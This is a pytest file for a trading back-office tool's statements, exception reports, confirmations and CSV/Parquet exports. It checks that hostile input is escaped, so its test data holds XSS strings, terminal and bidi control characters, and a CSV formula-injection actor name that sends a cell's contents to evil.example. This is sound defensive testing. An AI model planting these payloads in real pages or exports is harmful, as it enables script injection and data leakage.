"""Reports and exports through the real command, on SQLite and PostgreSQL: statements (JSON,
HTML, PDF, every account at once), the exception report, confirmations and exports."""

from __future__ import annotations

import csv
import io
import json
import re
import zlib
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import polars as pl

from tests.conftest import Tieout, write
from tests.htmltext import parse_html
from tests.pdftext import read_pdf

D = Decimal
HOSTILE = "<script>alert(1)</script>"
EXECS = """exec_id,account,symbol,side,quantity,price,trade_date,venue,commission,fees,exec_time
E1,A1,AAPL,buy,100,190.25,2026-11-02,V,1.00,0.10,2026-11-02T15:00:00Z
E2,A1,MSFT,buy,50,415.10,2026-11-03,V,1.00,0,2026-11-03T15:00:00Z
E3,A1,AAPL,sell,40,192.50,2026-11-04,V,1.00,0.05,2026-11-04T15:00:00Z
E4,A1,AAPL,sell,80,193.00,2026-11-05,V,1.00,0.05,2026-11-05T15:00:00Z
F1,B2,MSFT,buy,10.5,415.123456,2026-11-04,V,0.333,0,2026-11-04T16:00:00Z
"""
BARS = """time,symbol,open,high,low,close,volume
2026-11-02T20:00:00Z,AAPL,190,191,189,190.50,1000
2026-11-03T20:00:00Z,AAPL,190,193,189,191.75,1000
2026-11-04T20:00:00Z,AAPL,191,193,189,192.10,1000
2026-11-05T20:00:00Z,AAPL,192,194,189,193.30,1000
2026-11-03T20:00:00Z,MSFT,415,416,414,415.50,1000
2026-11-05T20:00:00Z,MSFT,415,418,414,417.25,1000
"""


def pdf_pages(data: bytes) -> int:
    """Pages of a PDF: its page objects, in plain or deflated (object) streams."""
    pattern = rb"/Type\s*/Page(?![a-z])"
    found = len(re.findall(pattern, data))
    for stream in re.findall(rb"stream\r?\n(.*?)\r?\nendstream", data, re.S):
        try:
            found += len(re.findall(pattern, zlib.decompress(stream)))
        except zlib.error:
            continue
    return found


def setup_book(t: Tieout, tmp_path: Path) -> Tieout:
    day1 = t.at("2026-11-02T12:00:00Z")
    day1.ok("instrument", "add", "AAPL", "--exchange", "XNYS", "--currency", "USD")
    day1.ok("instrument", "add", "MSFT", "--exchange", "XNYS", "--currency", "USD")
    day1.ok("account", "open", "A1", "--currency", "USD", "--name", HOSTILE + " Fund")
    day1.ok("account", "open", "B2", "--currency", "USD", "--name", "Beta")
    day1.ok("cash", "deposit", "A1", "100000", "--ref", "wire-<b>1</b>")
    day1.ok("cash", "deposit", "B2", "5000")
    day1.ok("destination", "add", "A1", "bank <i>x</i>")  # usable 24 hours later
    t.at("2026-11-04T12:00:00Z").ok("cash", "withdraw", "A1", "1000", "--to", "bank <i>x</i>")
    # the trades, imported once the last is done (a trade dated after today is refused)
    t.at("2026-11-05T22:00:00Z").ok("exec", "import", write(tmp_path / "execs.csv", EXECS))
    # the closes, imported once they have happened (a bar from the future is refused)
    t.at("2026-11-06T00:00:00Z").ok("md", "import", write(tmp_path / "bars.csv", BARS))
    return t.at("2026-11-07T00:00:00Z")


def test_statement_json_html_and_pdf(tieout: Tieout, tmp_path: Path) -> None:
    t = setup_book(tieout, tmp_path)
    period = ("--from", "2026-11-03", "--to", "2026-11-06")
    doc = t.ok("report", "statement", "--account", "A1", *period, "--format", "json").json()
    for key in ("account", "from", "to", "currency", "opening_nav", "closing_nav", "deposits",
                "withdrawals", "realized_pnl", "unrealized_pnl", "commissions", "fees",
                "positions", "trades", "cash", "audit_head"):  # fmt: skip
        assert key in doc
    money = ("nav", "pnl", "net", "deposits", "withdrawals", "commissions", "fees", "cash", "value")
    n = {k: D(v) for k, v in doc.items() if isinstance(v, str) and k.endswith(money)}
    assert (doc["account"], doc["from"], doc["to"], doc["currency"]) == (
        "A1", "2026-11-03", "2026-11-06", "USD",
    )  # fmt: skip
    assert (n["opening_nav"], n["closing_nav"], n["withdrawals"]) == (
        D("100023.90"), D("99352.30"), D("1000"),
    )  # fmt: skip
    assert (
        n["opening_nav"] + n["deposits"] - n["withdrawals"] + n["realized_pnl"]
        + n["unrealized_pnl"] - n["opening_unrealized_pnl"] - n["commissions"] - n["fees"]
        == n["closing_nav"]
    )  # fmt: skip
    # the positions are the book's own (`tieout positions`), cash the book's balance
    book = {p["symbol"]: p for p in t.ok(
        "positions", "--account", "A1", "--as-of", "2026-11-06", "--json").json()}  # fmt: skip
    for p in doc["positions"]:
        mine = book[p["symbol"]]
        for key in ("quantity", "cost_basis", "market_price", "market_value", "unrealized_pnl"):
            assert D(p[key]) == D(mine[key]), key
    market_value = sum(D(p["market_value"]) for p in doc["positions"])
    assert n["closing_nav"] == n["closing_cash"] + market_value
    balance = D(t.ok("cash", "balance", "A1", "--json").json()["balance"])
    assert n["closing_cash"] == n["settled_cash"] == balance
    assert [x["exec_id"] for x in doc["trades"]] == ["E2", "E3", "E4"]
    assert sum(D(x["realized_pnl"]) for x in doc["trades"]) == n["realized_pnl_net"]
    assert doc["audit_head"] == t.ok("audit", "verify", "--json").json()["head"]
    assert doc["generated_at"] == "2026-11-07T00:00:00.000000Z"

    html_path = tmp_path / "a1.html"
    r = t.ok("report", "statement", "--account", "A1", *period, "--out", str(html_path), "--json")
    assert r.json()["file"] == str(html_path)
    html = html_path.read_text()
    assert HOSTILE not in html and "<i>x</i>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Fund" in html
    assert "99,352.30" in html and doc["audit_head"] in html
    seen = parse_html(html)  # well-formed, and what a reader of the page sees:
    assert HOSTILE + " Fund" in seen and "Withdrawal to bank <i>x</i>" in seen
    for figure in ("Opening NAV (2026-11-02) 100,023.90", "Withdrawals -1,000.00",
                   "Closing NAV (2026-11-06) 99,352.30", "Change in NAV -671.60",
                   "Market value of positions 16,996.50", "Commissions -3.00", "Fees -0.10"):
        assert figure in seen, figure

    pdf_path = tmp_path / "a1.pdf"
    r = t.ok("report", "statement", "--account", "A1", *period, "--format", "pdf",
             "--out", str(pdf_path), "--json")  # fmt: skip
    data = pdf_path.read_bytes()
    assert data.startswith(b"%PDF-")
    assert r.json()["pages"] == pdf_pages(data) >= 1
    # what a reader of the PDF sees: the figures, the names as text, "page x of y" on each page
    pdf = read_pdf(pdf_path, tmp_path)
    assert len(pdf.pages) == r.json()["pages"]
    for i, page in enumerate(pdf.pages, start=1):
        assert f"Page {i} of {len(pdf.pages)}" in page
    text = pdf.compact()
    assert HOSTILE + "Fund" in text  # shown as text, never interpreted
    for figure in ("100,023.90", "99,352.30", "-1,000.00", "-671.60", "252.06", "16,996.50",
                   "-3,866.00", "20,862.50", "7,698.95", "15,438.95", doc["audit_head"]):
        assert figure in text, figure
    assert "Withdrawal to bank <i>x</i>" in pdf.words()


def test_statement_bad_input(tieout: Tieout) -> None:
    t = tieout.at("2026-11-07T00:00:00Z")
    t.ok("account", "open", "A1", "--currency", "USD")
    cases = [
        (("--account", "NOPE", "--from", "2026-11-01", "--to", "2026-11-02"), 5, "not found"),
        (("--account", "A1", "--from", "2026-11-05", "--to", "2026-11-02"), 3, "after --to"),
        (("--account", "A1", "--from", "2026-02-30", "--to", "2026-11-02"), 3, "not a date"),
        (("--account", "A1", "--from", "2026-11-01", "--to", "2026-11-02", "--format", "doc"),
         3, "html, pdf, json"),
        (("--account", "A1", "--from", "2026-11-01", "--to", "2026-11-02", "--format", "pdf"),
         3, "--out"),
        (("--account", "A1", "--all", "--from", "2026-11-01", "--to", "2026-11-02"), 3,
         "either --account"),
        (("--from", "2026-11-01", "--to", "2026-11-02"), 3, "either --account"),
        (("--account", "A1", "--from", "2026-11-01", "--to", "2026-11-02", "--method", "x"), 3,
         "fifo"),
    ]  # fmt: skip
    for args, code, text in cases:
        r = t("report", "statement", *args)
        assert r.code == code, (args, r.err)
        assert text in r.err, (args, r.err)
        assert r.out == ""
    r = t("report", "exceptions", "--date", "2026-13-01", "--format", "json")
    assert r.code == 3
    r = t("export", "trades", "--from", "2026-11-02", "--to", "2026-11-01", "--out", "x.csv")
    assert (r.code, "after --to" in r.err) == (3, True)
    r = t("export", "trades", "--from", "2026-11-01", "--to", "2026-11-02", "--out", "x.csv",
          "--format", "xlsx")  # fmt: skip
    assert (r.code, "csv, parquet" in r.err) == (3, True)


def test_statements_of_every_account_on_two_processes(tieout: Tieout, tmp_path: Path) -> None:
    t = setup_book(tieout, tmp_path)
    out = tmp_path / "all"
    r = t.ok("report", "statement", "--all", "--from", "2026-11-01", "--to", "2026-11-30",
             "--out", str(out), "--workers", "2", "--json")  # fmt: skip
    summary = r.json()
    assert (summary["count"], summary["failed"]) == (2, [])
    files = sorted(p.name for p in out.iterdir())
    assert files == ["statement-A1-2026-11-01-2026-11-30.html",
                     "statement-B2-2026-11-01-2026-11-30.html"]  # fmt: skip
    assert "Beta" in (out / files[1]).read_text()
    single = t.ok("report", "statement", "--account", "B2", "--from", "2026-11-01", "--to",
                  "2026-11-30").out  # fmt: skip
    assert (out / files[1]).read_text() == single


def insert_recon(db_url: str) -> None:
    """Runs, breaks, comments and quarantined rows as `recon run` leaves them (its tables)."""
    from oms.store import Store
    from recon.schema import break_events, recon_breaks, recon_quarantine, recon_runs

    at = datetime(2026, 11, 24, 22, tzinfo=UTC)

    def run(run_id: int, profile: str, kind: str, rows: int, bad: int, matched: int) -> dict:
        return {
            "run_id": run_id, "kind": kind, "profile": profile, "profile_version": "v1",
            "venue": "ACME", "business_date": date(2026, 11, 24), "input_path": "/in.csv",
            "input_sha256": "e" * 64, "forced": False, "internal_rows": 5, "venue_rows": rows,
            "quarantined_rows": bad, "matched": matched,
            "breaks": '{"price_mismatch":1}', "open_breaks": 3, "closed_breaks": 1,
            "started_at": at, "duration_s": D("0.25"), "actor": "ops",
        }  # fmt: skip

    def brk(break_id: int, seen: date, *, resolved: datetime | None = None, **kw: object) -> dict:
        row = {
            "break_id": break_id, "profile": "acme", "break_key": f"k{break_id}",
            "kind": "trades", "type": "price_mismatch", "status": "open", "account": "A1",
            "symbol": "AAPL", "currency": "USD", "internal_refs": '["V:E1"]',
            "venue_refs": '["row:3"]', "venue_records": "[]",
            "differences": '{"price":{"internal":"190.25","venue":"190.35"}}',
            "amount": D("10.00"), "suggestion": None, "first_seen": seen,
            "first_run_id": 1, "last_run_id": 1, "owner": None, "resolution": None,
            "resolution_note": None, "requested_by": None, "request_hash": None,
            "resolved_by": None, "resolved_at": resolved, "resolved_run_id": None,
            "updated_at": at,
        }  # fmt: skip
        if resolved is not None:
            row.update(status="resolved", resolution="timing", resolved_by="ops")
        row.update(kw)
        return row

    store = Store.open(db_url, check_schema=False)
    with store.write() as conn:
        conn.execute(recon_runs.insert(), [run(1, "acme", "trades", 10, 2, 7),
                                           run(2, "acme-cash", "cash", 4, 0, 4)])  # fmt: skip
        conn.execute(recon_breaks.insert(), [
            brk(1, date(2026, 11, 9)),  # 11 sessions before the 24th: ">10"
            brk(2, date(2026, 11, 24), suggestion=HOSTILE, owner="ann", type="quantity_mismatch",
                amount=D("-500"), differences='{"quantity":{"internal":"10","venue":"<b>9</b>"}}'),
            brk(3, date(2026, 11, 20), resolved=datetime(2026, 11, 24, 15, tzinfo=UTC)),
            brk(4, date(2026, 11, 18), resolved=datetime(2026, 11, 26, 9, tzinfo=UTC)),
            brk(5, date(2026, 11, 25)),
        ])  # fmt: skip
        conn.execute(break_events.insert(), [
            {"event_id": 1, "break_id": 2, "at": at, "actor": "bob", "action": "commented",
             "run_id": None, "payload": json.dumps({"text": "<img src=x onerror=alert(2)>"})},
        ])  # fmt: skip
        conn.execute(recon_quarantine.insert(), [
            {"run_id": 1, "row": 4, "values": '{"qty":"abc"}',
             "reasons": '["quantity: \'abc\' is not a decimal number"]'},
            {"run_id": 1, "row": 9, "values": '{"qty":"<i>1</i>"}', "reasons": '["side: empty"]'},
        ])  # fmt: skip
    store.dispose()


def test_exception_report(tieout: Tieout, db_url: str, tmp_path: Path) -> None:
    insert_recon(db_url)
    t = tieout.at("2026-11-25T06:00:00Z")
    doc = t.ok("report", "exceptions", "--date", "2026-11-24", "--format", "json").json()
    assert [(r["run_id"], r["profile"], r["match_rate_pct"]) for r in doc["runs"]] == [
        (1, "acme", "87.50"), (2, "acme-cash", "100.00"),
    ]  # fmt: skip
    assert [(b["break_id"], b["age_days"], b["status"]) for b in doc["open_breaks"]] == [
        (1, 11, "open"), (4, 4, "resolved"), (2, 0, "open"),
    ]  # fmt: skip
    b2 = doc["open_breaks"][2]
    assert (b2["owner"], b2["suggestion"], b2["amount"]) == ("ann", HOSTILE, "-500")
    assert b2["differences"] == {"quantity": {"internal": "10", "venue": "<b>9</b>"}}
    assert b2["comments"][0]["text"] == "<img src=x onerror=alert(2)>"
    assert doc["by_age"] == {"0-1": 1, "2-5": 1, "6-10": 0, ">10": 1}
    assert [(q["run_id"], q["row"], q["reasons"]) for q in doc["quarantined"]] == [
        (1, 4, ["quantity: 'abc' is not a decimal number"]), (1, 9, ["side: empty"]),
    ]  # fmt: skip
    assert [(b["break_id"], b["resolution"], b["age_days"]) for b in doc["resolved"]] == [
        (3, "timing", 2),
    ]  # fmt: skip
    out = tmp_path / "exc.html"
    t.ok("report", "exceptions", "--date", "2026-11-24", "--out", str(out))
    html = out.read_text()
    for raw in (HOSTILE, "<b>9</b>", "<img src=x", "<i>1</i>"):
        assert raw not in html
    assert "&lt;img src=x onerror=alert(2)&gt;" in html and "87.50%" in html
    seen = parse_html(html)
    for shown in ("87.50%", "100.00%", "<img src=x onerror=alert(2)>", "<b>9</b>", HOSTILE,
                  "qty=<i>1</i>", "quantity: 'abc' is not a decimal number", "-500.00 USD"):
        assert shown in seen, shown
    pdf_out = tmp_path / "exc.pdf"
    r = t.ok("report", "exceptions", "--date", "2026-11-24", "--format", "pdf", "--out",
             str(pdf_out), "--json")  # fmt: skip
    pdf = read_pdf(pdf_out, tmp_path)
    assert len(pdf.pages) == r.json()["pages"]
    text = pdf.compact()
    for shown in ("acme-cash", "87.50%", "100.00%", "price_mismatch", "quantity_mismatch",
                  "<imgsrc=xonerror=alert(2)>", "<b>9</b>", "qty=abc", "-500.00USD",
                  "Break1", "Break2", "Break4", "nowresolved", "11businessdays", HOSTILE):
        assert shown in text, shown
    empty = t.ok("report", "exceptions", "--date", "2026-10-01", "--format", "json").json()
    assert (empty["runs"], empty["open_breaks"], empty["quarantined"]) == ([], [], [])


def test_confirmations_one_pdf_per_execution(tieout: Tieout, db_url: str, tmp_path: Path) -> None:
    t = setup_book(tieout, tmp_path)
    from oms import book
    from oms.book import Ctx
    from oms.store import Store

    store = Store.open(db_url, check_schema=False)
    with store.write() as conn:
        ctx = Ctx("ops", datetime(2026, 11, 6, tzinfo=UTC))
        book.put_setting(conn, ctx, "firm.name", "Acme <Securities>")
        book.put_setting(conn, ctx, "firm.capacity", "principal")
    store.dispose()
    out = tmp_path / "conf"
    doc = t.ok("report", "confirmations", "--date", "2026-11-04", "--out", str(out),
               "--json").json()  # fmt: skip
    assert doc["count"] == 2 and doc["failed"] == []
    by_id = {c["exec_id"]: c for c in doc["confirmations"]}
    e3, f1 = by_id["E3"], by_id["F1"]
    assert (e3["side"], e3["quantity"], e3["price"], e3["commission"], e3["fees"]) == (
        "sell", "40", "192.50", "1.00", "0.05",
    )  # fmt: skip
    assert (e3["net"], e3["settle_date"], e3["capacity"], e3["account"]) == (
        "7698.95", "2026-11-05", "principal", "A1",
    )  # fmt: skip
    assert (f1["gross"], f1["net"]) == ("4358.7962880", "4359.1292880")
    assert e3["exec_time"] == "2026-11-04T15:00:00.000000Z"
    assert e3["firm"]["name"] == "Acme <Securities>"
    names = sorted(p.name for p in out.iterdir())
    assert names == ["confirm-2026-11-04-A1-V-E3.pdf", "confirm-2026-11-04-B2-V-F1.pdf"]
    for name in names:
        data = (out / name).read_bytes()
        assert data.startswith(b"%PDF-") and pdf_pages(data) == 1
    e3_text = read_pdf(out / names[0], tmp_path).words()
    for shown in ("Acme <Securities>", "No. V-E3", "Side Sold", "Quantity 40",
                  "Price 192.50 USD", "Commission 1.00 USD", "Fees 0.05 USD",
                  "Net amount due to you 7,698.95 USD", "Settlement date 2026-11-05",
                  "We acted as principal.", "Account A1", "AAPL (XNYS)",
                  "Trade date and time 2026-11-04 15:00:00 UTC", "Rule 10b-10"):
        assert shown in e3_text, shown
    # exactly as booked (the cash entry keeps the price's places below the cent), so it foots
    f1_text = read_pdf(out / names[1], tmp_path).words()
    assert "Gross amount 4,358.796288 USD" in f1_text
    assert "4,359.129288 USD" in f1_text
    none = t.ok("report", "confirmations", "--date", "2026-11-09", "--out", str(out), "--json")
    assert none.json()["count"] == 0


def test_exports_are_exact(tieout: Tieout, tmp_path: Path) -> None:
    t = setup_book(tieout, tmp_path)
    rng = ("--from", "2026-11-03", "--to", "2026-11-04")
    out = tmp_path / "trades.csv"
    r = t.ok("export", "trades", *rng, "--format", "csv", "--out", str(out), "--json")
    assert r.json()["rows"] == 3
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert [(x["exec_id"], x["quantity"], x["price"], x["commission"]) for x in rows] == [
        ("E2", "50", "415.10", "1.00"), ("E3", "40", "192.50", "1.00"),
        ("F1", "10.5", "415.123456", "0.333"),
    ]  # fmt: skip
    assert rows[0]["exec_time"] == "2026-11-03T15:00:00.000000Z"
    pq = tmp_path / "trades.parquet"
    t.ok("export", "trades", *rng, "--format", "parquet", "--out", str(pq))
    frame = pl.read_parquet(pq)
    assert frame["price"].to_list() == [D("415.10"), D("192.50"), D("415.123456")]
    assert frame["commission"].to_list() == [D("1.00"), D("1.00"), D("0.333")]
    assert frame["trade_date"].to_list()[0] == date(2026, 11, 3)

    audit_csv = tmp_path / "audit.csv"
    t.ok("export", "audit", "--from", "2026-11-01", "--to", "2026-11-30", "--out", str(audit_csv))
    events = list(csv.DictReader(io.StringIO(audit_csv.read_text())))
    assert {"instrument.add", "account.open", "executions.import"} <= {e["action"] for e in events}
    jsonl = tmp_path / "audit.jsonl"
    t.ok("audit", "export", "--from", "2026-11-01", "--to", "2026-11-30", "--out", str(jsonl))
    exported = [json.loads(line) for line in jsonl.read_text().splitlines()]
    assert [(e["seq"], e["at"], e["hash"]) for e in events] == [
        (str(x["seq"]), x["at"], x["hash"]) for x in exported
    ]
    assert json.loads(events[0]["payload"]) == exported[0]["payload"]

    # orders, by the day they were created: one on a 24/7 instrument, now
    t.ok("instrument", "add", "COIN", "--exchange", "24/7", "--currency", "USD", "--tick-size",
         "0.001", "--lot-size", "0.5")
    live = Tieout(t.db_url, t.actor)
    at = (datetime.now(UTC) - timedelta(minutes=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    bars = f"time,symbol,open,high,low,close,volume\n{at},COIN,100,101,99,100.5,5000\n"
    live.ok("md", "import", write(tmp_path / "coin.csv", bars))
    live.ok("order", "submit", "--account", "A1", "--symbol", "COIN", "--side", "buy", "--qty",
            "2.5", "--type", "limit", "--limit", "95.125", "--tif", "gtc")  # fmt: skip
    today = datetime.now(UTC).date().isoformat()
    orders_pq = tmp_path / "orders.parquet"
    live.ok("export", "orders", "--from", today, "--to", today, "--format", "parquet",
            "--out", str(orders_pq))  # fmt: skip
    orders = pl.read_parquet(orders_pq)
    assert orders["limit_price"].to_list() == [D("95.125")]
    assert orders["quantity"].to_list() == [D("2.5")]
    orders_csv = tmp_path / "orders.csv"
    live.ok("export", "orders", "--from", today, "--to", today, "--out", str(orders_csv))
    (order,) = list(csv.DictReader(io.StringIO(orders_csv.read_text())))
    assert (order["limit_price"], order["status"], order["symbol"]) == ("95.125", "new", "COIN")


def test_control_characters_in_a_statement_are_shown_not_acted_on(
    tieout: Tieout, tmp_path: Path
) -> None:
    """An ESC (a terminal colour code) or a U+202E (it reorders the text after it) in a name
    from a file is shown as its escape in the HTML, never passed through raw."""
    t = tieout.at("2026-11-02T12:00:00Z")
    t.ok("account", "open", "HX", "--currency", "USD", "--name", "Evil\x1b[31m Fund\u202eredro")
    t.ok("cash", "deposit", "HX", "100", "--ref", "wire\u2066x")
    out = tmp_path / "hx.html"
    t.at("2026-11-04T12:00:00Z").ok("report", "statement", "--account", "HX", "--from",
                                    "2026-11-02", "--to", "2026-11-03", "--out", str(out))
    html = out.read_text()
    assert "\x1b" not in html and "\u202e" not in html and "\u2066" not in html
    seen = parse_html(html)
    assert "Evil\\x1b[31m Fund\\u202eredro" in seen
    assert "wire\\u2066x" in seen


def test_sydney_statements_chain_and_mark_each_day_at_its_own_close(
    tieout: Tieout, tmp_path: Path
) -> None:
    """AEDT: Friday's ASX session opens at 23:00 UTC on Thursday. A statement's daily marks
    came from UTC-day bars, so Thursday's statement was marked at Friday's price while the
    next one opened at Thursday's (a re-review): now each day is marked at its last price
    on the exchange, statements chain (one's closing NAV is the next one's opening NAV) and
    agree with `positions --as-of`."""
    t = tieout.at("2024-11-15T06:00:00Z")
    t.ok("instrument", "add", "BHP", "--exchange", "XASX", "--currency", "AUD")
    t.ok("account", "open", "A1", "--currency", "AUD")
    t.ok("exec", "import", write(tmp_path / "e.csv",
         "exec_id,account,symbol,side,quantity,price,trade_date,venue\n"
         "E1,A1,BHP,buy,100,30,2024-11-12,ASX\n"))  # fmt: skip
    t.ok("md", "import", write(tmp_path / "b.csv", "time,symbol,open,high,low,close,volume\n"
         "2024-11-13T04:00:00Z,BHP,35,35,35,35,100\n"
         "2024-11-14T04:00:00Z,BHP,40,40,40,40,100\n"
         "2024-11-14T23:30:00Z,BHP,45,45,45,45,100\n"))  # fmt: skip

    def statement(day: str) -> dict[str, Any]:
        doc: dict[str, Any] = t.ok("report", "statement", "--account", "A1", "--from", day,
                                   "--to", day, "--format", "json").json()  # fmt: skip
        return doc

    thursday, friday = statement("2024-11-14"), statement("2024-11-15")
    assert thursday["closing_nav"] == friday["opening_nav"]
    (pos,) = t.ok("positions", "--account", "A1", "--as-of", "2024-11-14", "--json").json()
    assert pos["market_price"] == "40"
    assert Decimal(thursday["closing_nav"]) - Decimal(thursday["closing_cash"]) == 4000
    assert Decimal(friday["closing_nav"]) - Decimal(friday["closing_cash"]) == 4500


def test_export_cells_a_spreadsheet_would_run_are_written_as_text(
    tieout: Tieout, tmp_path: Path
) -> None:
    """A venue's reject text and an actor's name come from outside: a CSV cell starting with
    =, +, -, @ (or a tab) was written verbatim, and a spreadsheet ran it as a formula. Written
    with a leading apostrophe; numbers (a negative amount) and Parquet are left as they are."""
    t = tieout.at("2026-11-03T16:00:00Z")
    t.ok("instrument", "add", "AAPL", "--exchange", "XNYS", "--currency", "USD")
    t.ok("account", "open", "A1", "--currency", "USD", "--type", "margin")
    evil = Tieout(t.db_url, '=HYPERLINK("http://evil.example/?"&A1,"click")').at(
        "2026-11-03T16:00:00Z"
    )
    rows = "E1,A1,AAPL,buy,3,190.25,2026-11-03,ACME\nE2,A1,AAPL,sell,5,191,2026-11-03,ACME\n"
    evil.ok("exec", "import", write(
        tmp_path / "e.csv", "exec_id,account,symbol,side,quantity,price,trade_date,venue\n" + rows
    ))  # fmt: skip
    out = tmp_path / "trades.csv"
    t.ok("export", "trades", "--from", "2026-11-03", "--to", "2026-11-03", "--out", str(out))
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    assert {r["actor"] for r in rows} == {"'" + evil.actor}
    assert [r["quantity"] for r in rows] == ["3", "5"]
    pq = tmp_path / "trades.parquet"
    t.ok("export", "trades", "--from", "2026-11-03", "--to", "2026-11-03", "--format",
         "parquet", "--out", str(pq))  # fmt: skip
    assert set(pl.read_parquet(pq)["actor"].to_list()) == {evil.actor}
    audit_csv = tmp_path / "audit.csv"
    t.ok("export", "audit", "--from", "2026-11-03", "--to", "2026-11-03", "--out", str(audit_csv))
    # the audit trail's CSV is written as hashed (checked against the chain): not escaped
    actors = {r["actor"] for r in csv.DictReader(io.StringIO(audit_csv.read_text()))}
    assert evil.actor in actors and "'" + evil.actor not in actors


def test_export_dates_and_paths_out_of_reach_are_bad_input(tieout: Tieout, tmp_path: Path) -> None:
    t = tieout.at("2026-11-03T16:00:00Z")
    # past the last date the exchange calendars can place (pandas ends on 2262-04-11)
    r = t("report", "exceptions", "--date", "2262-04-12", "--format", "json", "--out",
          str(tmp_path / "x.json"))  # fmt: skip
    assert r.code == 3 and "out of range" in r.err, r.err
    r = t("export", "trades", "--from", "2026-01-01", "--to", "9999-12-31", "--out",
          str(tmp_path / "t.csv"))  # fmt: skip
    assert r.code == 3 and "out of range" in r.err and "2261-12-31" in r.err
    r = t("export", "trades", "--from", "0001-01-01", "--to", "2026-01-01", "--out",
          str(tmp_path / "t.csv"))  # fmt: skip
    assert r.code == 3 and "out of range" in r.err
    afile = write(tmp_path / "afile.csv", "x\n")
    r = t("export", "orders", "--from", "2026-01-01", "--to", "2026-01-02", "--out",
          str(Path(afile) / "x.csv"))  # fmt: skip
    assert r.code == 3 and "cannot be written" in r.err, r.err
    r = t("backup", "create", "--out", str(Path(afile) / "b.tar"))
    assert r.code == 3 and "cannot be written" in r.err, r.err


def test_documents_are_written_with_the_process_umask(tieout: Tieout, tmp_path: Path) -> None:
    """mkstemp makes its files 0600: every export, statement and audit export was readable by
    its writer alone. A document gets the mode a new file of the process gets."""
    import os

    t = tieout.at("2026-11-03T16:00:00Z")
    old = os.umask(0o027)
    try:
        out = tmp_path / "a.csv"
        t.ok("export", "audit", "--from", "2026-11-01", "--to", "2026-11-30", "--out", str(out))
    finally:
        os.umask(old)
    assert out.stat().st_mode & 0o777 == 0o640
